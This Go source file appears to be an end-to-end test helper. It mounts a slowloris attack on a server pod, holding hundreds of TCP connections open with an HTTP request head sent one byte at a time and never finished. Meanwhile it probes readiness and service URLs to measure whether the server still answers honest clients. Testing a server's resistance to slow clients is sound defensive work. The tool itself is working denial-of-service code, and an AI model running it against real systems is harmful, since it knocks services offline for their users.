// Command slowloris is the e2e tests' in-cluster slow client: it holds -conns TCP connections open to -target
// (a server pod's admin port), trickling one byte of a request head that never ends every -trickle, and opens a
// new connection whenever the server closes one. It stops by itself after -duration.
//
// Meanwhile it probes -probe like the kubelet (a new connection per GET, -probe-timeout) and fetches -check (the
// site's Service) every -check-period, so the test sees what an honest client got during the attack. At the end
// it prints one line, "SLOWLORIS " + JSON (Summary), and exits 0: the test judges the numbers.
//
//	slowloris -target 10.244.0.7:9090 -conns 200 -duration 60s -probe http://10.244.0.7:9090/readyz -check http://site.ns.svc/
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Summary is the result line the e2e test parses.
type Summary struct {
	Conns          int   `json:"conns"`
	DurationMs     int64 `json:"durationMs"`
	Connects       int64 `json:"connects"`       // TCP connections established (the first round and every reconnect)
	DialErrors     int64 `json:"dialErrors"`     // connects that failed or timed out
	ClosedByServer int64 `json:"closedByServer"` // connections the server closed (deadline, eviction) before we did
	BytesSent      int64 `json:"bytesSent"`      // trickled bytes
	PeakOpen       int64 `json:"peakOpen"`       // most connections open at once
	Probe          Probe `json:"probe"`
	Check          Probe `json:"check"`
}

// Probe sums up the periodic GETs of one URL.
type Probe struct {
	URL                    string   `json:"url,omitempty"`
	Requests               int      `json:"requests"`
	Failures               int      `json:"failures"`
	MaxConsecutiveFailures int      `json:"maxConsecutiveFailures"`
	MaxMs                  int64    `json:"maxMs"`
	Errors                 []string `json:"errors,omitempty"` // the first few
}

func main() {
	target := flag.String("target", "", "host:port to hold slow connections to")
	conns := flag.Int("conns", 200, "slow connections held open at once")
	duration := flag.Duration("duration", 60*time.Second, "how long the attack lasts")
	trickle := flag.Duration("trickle", 500*time.Millisecond, "interval between two bytes on a connection")
	probeURL := flag.String("probe", "", "URL probed like the kubelet does during the attack (optional)")
	probePeriod := flag.Duration("probe-period", time.Second, "interval between probes")
	probeTimeout := flag.Duration("probe-timeout", 2*time.Second, "a probe slower than this fails")
	checkURL := flag.String("check", "", "URL that must keep answering 200 during the attack (optional)")
	checkPeriod := flag.Duration("check-period", time.Second, "interval between checks")
	flag.Parse()
	if *target == "" || *conns < 1 || *duration <= 0 || *trickle <= 0 {
		fmt.Fprintln(os.Stderr, "slowloris: -target, -conns > 0, -duration > 0 and -trickle > 0 are required")
		os.Exit(2)
	}

	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	start := time.Now()
	a := &attack{target: *target, trickle: *trickle}
	var wg sync.WaitGroup
	for range *conns {
		wg.Add(1)
		go func() { defer wg.Done(); a.hold(ctx) }()
	}
	sum := Summary{Conns: *conns}
	var probeWG sync.WaitGroup
	if *probeURL != "" {
		probeWG.Add(1)
		go func() { defer probeWG.Done(); sum.Probe = poll(ctx, *probeURL, *probePeriod, *probeTimeout, false) }()
	}
	if *checkURL != "" {
		probeWG.Add(1)
		go func() { defer probeWG.Done(); sum.Check = poll(ctx, *checkURL, *checkPeriod, 5*time.Second, true) }()
	}
	go a.progress(ctx, start)
	wg.Wait()
	probeWG.Wait()

	sum.DurationMs = time.Since(start).Milliseconds()
	sum.Connects, sum.DialErrors = a.connects.Load(), a.dialErrors.Load()
	sum.ClosedByServer, sum.BytesSent, sum.PeakOpen = a.closedByServer.Load(), a.bytesSent.Load(), a.peakOpen.Load()
	line, _ := json.Marshal(sum)
	fmt.Printf("SLOWLORIS %s\n", line)
}

type attack struct {
	target  string
	trickle time.Duration

	connects, dialErrors, closedByServer, bytesSent atomic.Int64
	open, peakOpen                                  atomic.Int64
}

// head is what a connection trickles: the start of a request whose head never ends (no blank line).
const head = "GET /healthz HTTP/1.1\r\nHost: admin\r\nX-Slow: "

// hold keeps one slow connection open until ctx ends, reconnecting whenever the server closes it.
func (a *attack) hold(ctx context.Context) {
	d := net.Dialer{Timeout: 2 * time.Second}
	for ctx.Err() == nil {
		c, err := d.DialContext(ctx, "tcp", a.target)
		if err != nil {
			if ctx.Err() == nil {
				a.dialErrors.Add(1)
				sleep(ctx, 100*time.Millisecond) // do not spin on a refused or unreachable target
			}
			continue
		}
		a.connects.Add(1)
		n := a.open.Add(1)
		for peak := a.peakOpen.Load(); n > peak && !a.peakOpen.CompareAndSwap(peak, n); peak = a.peakOpen.Load() {
		}
		if a.trickleOn(ctx, c) {
			a.closedByServer.Add(1)
		}
		_ = c.Close()
		a.open.Add(-1)
	}
}

// trickleOn sends a byte every a.trickle until ctx ends (false) or the server closes the connection (true).
func (a *attack) trickleOn(ctx context.Context, c net.Conn) bool {
	closed := make(chan struct{})
	go func() {
		// Whatever the server sends (a 408) is followed by its close: read until then.
		_, _ = io.Copy(io.Discard, c)
		close(closed)
	}()
	// Spread the connections' bytes over the interval instead of sending 200 at once.
	next := time.NewTimer(rand.N(a.trickle))
	defer next.Stop()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return false
		case <-closed:
			return true
		case <-next.C:
		}
		b := byte('a')
		if i < len(head) {
			b = head[i]
		}
		_ = c.SetWriteDeadline(time.Now().Add(a.trickle))
		if _, err := c.Write([]byte{b}); err != nil {
			return !errors.Is(err, os.ErrDeadlineExceeded)
		}
		a.bytesSent.Add(1)
		next.Reset(a.trickle)
	}
}

// progress logs the attack's state every 10 s (to stderr, for a person reading the pod log).
func (a *attack) progress(ctx context.Context, start time.Time) {
	t := time.NewTicker(10 * time.Second)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			fmt.Fprintf(os.Stderr, "slowloris: t=%s open=%d connects=%d closedByServer=%d dialErrors=%d\n",
				time.Since(start).Round(time.Second), a.open.Load(), a.connects.Load(), a.closedByServer.Load(), a.dialErrors.Load())
		}
	}
}

// poll GETs url every period until ctx ends. A probe (strict false) succeeds on 200-399 like the kubelet's;
// a check (strict true) only on 200. Every request uses a new connection, as the kubelet's probes do.
func poll(ctx context.Context, url string, period, timeout time.Duration, strict bool) Probe {
	p := Probe{URL: url}
	client := &http.Client{
		Timeout:   timeout,
		Transport: &http.Transport{DisableKeepAlives: true, DisableCompression: true},
		// Like the kubelet: a redirect is an answer, not something to follow.
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	t := time.NewTicker(period)
	defer t.Stop()
	consecutive := 0
	for {
		select {
		case <-ctx.Done():
			return p
		case <-t.C:
		}
		begin := time.Now()
		err := get(client, url, strict)
		p.Requests++
		p.MaxMs = max(p.MaxMs, time.Since(begin).Milliseconds())
		if err == nil {
			consecutive = 0
			continue
		}
		p.Failures++
		consecutive++
		p.MaxConsecutiveFailures = max(p.MaxConsecutiveFailures, consecutive)
		if len(p.Errors) < 5 {
			p.Errors = append(p.Errors, fmt.Sprintf("%s: %v", time.Since(begin).Round(time.Millisecond), err))
		}
	}
}

func get(c *http.Client, url string, strict bool) error {
	resp, err := c.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	if ok := resp.StatusCode == http.StatusOK || (!strict && resp.StatusCode >= 200 && resp.StatusCode < 400); !ok {
		return fmt.Errorf("status %d", resp.StatusCode)
	}
	return nil
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
